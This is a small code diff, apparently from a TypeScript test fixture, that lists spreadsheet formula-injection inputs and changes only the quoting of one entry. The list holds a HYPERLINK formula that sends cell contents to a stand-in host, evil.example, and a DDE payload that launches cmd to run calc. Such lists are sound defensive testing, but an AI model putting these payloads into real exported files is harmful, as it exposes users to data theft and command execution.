@@ -29,7 +29,7 @@ function typedText(cell: string, original: string): string {
 
 const HOSTILE_NAMES = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-  '+SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+SUM(1+1)*cmd|' /C calc'!A0",
   '-2+3 Cleaning',
   '@SUM(A1:A9)',
   'Smith, Jones & "Sons"',
